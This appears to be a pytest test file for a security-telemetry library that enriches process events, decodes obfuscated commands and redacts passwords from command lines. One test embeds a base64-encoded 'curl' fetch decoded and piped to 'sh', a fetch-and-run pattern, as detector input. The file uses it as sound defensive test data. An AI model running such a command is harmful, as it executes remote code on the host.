"""What sensors leave open about a process is worked out the same for all of them."""

from __future__ import annotations

import base64
import json

import pytest

from ingest.facets.seen import complete
from ingest.redact.token import Redactor

REDACTOR = Redactor(b"a key of this test only")
SECRET = "hunter2-hunter2"


def test_a_name_follows_from_the_path() -> None:
    found = complete({"process.executable": "/usr/bin/curl"}, REDACTOR)
    assert found["process.name"] == "curl"
    found = complete({"process.parent.executable": "/bin/sh"}, REDACTOR)
    assert found["process.parent.name"] == "sh"


def test_a_name_that_is_there_stays() -> None:
    fields = {"process.executable": "/usr/bin/busybox", "process.name": "wget"}
    assert complete(fields, REDACTOR)["process.name"] == "wget"


@pytest.mark.parametrize(
    ("line", "args"),
    [
        ("sh -c 'id; uname -a'", ["sh", "-c", "id; uname -a"]),
        ("grep  -r   x", ["grep", "-r", "x"]),
        ("echo it's", ["echo", "it's"]),
        ("a " + "b " * 40_000, ["a", *["b"] * 40_000]),
    ],
)
def test_words_are_those_of_a_shell(line: str, args: list[str]) -> None:
    assert complete({"process.command_line": line}, REDACTOR)["process.args"] == args


def test_a_line_is_joined_from_words() -> None:
    found = complete({"process.args": ["sh", "-c", "id; id"]}, REDACTOR)
    assert found["process.command_line"] == "sh -c id; id"


def test_what_a_command_hides_is_decoded() -> None:
    hidden = base64.b64encode(b"curl http://198.51.100.7/x").decode()
    found = complete({"process.command_line": f"sh -c 'echo {hidden}|base64 -d|sh'"}, REDACTOR)
    assert "curl http://198.51.100.7/x" in found["trailwarden.exec.decoded"]


def test_what_a_command_installs_is_told() -> None:
    found = complete({"process.command_line": "apt-get install -y nmap"}, REDACTOR)
    assert found["trailwarden.package.manager"] == "apt"
    assert found["package.name"] == ["nmap"]


def test_a_password_of_a_command_line_is_nowhere() -> None:
    line = f"mysql -p{SECRET} -h db"
    quoted = f'sh -c "mysql --password={SECRET}"'
    for raw in (line, quoted):
        fields = {
            "process.command_line": raw,
            "process.parent.command_line": raw,
            "message": f"a shell ran (command={raw})",
            "trailwarden.tool.fields": json.dumps({"proc.cmdline": raw}),
        }
        found = complete(fields, REDACTOR)
        assert SECRET not in json.dumps(found), raw
        assert "[redacted:" in found["process.command_line"]
        assert "[redacted:" in found["message"]
        assert "[redacted:" in found["trailwarden.tool.fields"]


def test_lists_of_one_command_are_not_shared() -> None:
    """What is remembered of a command line must not change with what is done to one event."""
    first = complete({"process.command_line": "id -u"}, REDACTOR)
    first["process.args"].append("changed")
    assert complete({"process.command_line": "id -u"}, REDACTOR)["process.args"] == ["id", "-u"]


def test_a_pod_has_its_uid_and_the_digest_of_its_image() -> None:
    digest = "sha256:" + "a" * 64
    pod = {
        "orchestrator.resource.type": "pods",
        "orchestrator.resource.id": "u-1",
        "container.image.name": f"registry.example/web:1@{digest}",
    }
    found = complete(dict(pod), REDACTOR)
    assert found["trailwarden.pod.uid"] == "u-1"
    assert found["trailwarden.pod.image_digests"] == [digest]
    told = complete({**pod, "trailwarden.pod.image_digests": ["told"]}, REDACTOR)
    assert told["trailwarden.pod.image_digests"] == ["told"]
    other = complete({**pod, "orchestrator.resource.type": "deployments"}, REDACTOR)
    assert "trailwarden.pod.uid" not in other
